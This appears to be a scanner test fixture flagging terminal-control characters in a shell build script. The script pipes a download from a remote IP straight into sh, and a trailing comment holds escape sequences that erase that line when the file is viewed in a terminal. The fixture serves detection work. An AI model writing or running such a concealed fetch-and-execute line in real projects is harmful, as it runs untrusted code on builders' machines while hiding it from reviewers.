# expect: unicode.terminal_control high
# note: in a terminal (git diff, cat) the curl line is erased and overwritten
# path: scripts/build.sh
#!/bin/sh
curl -s https://203.0.113.9/i | sh # [2K[1A
echo building
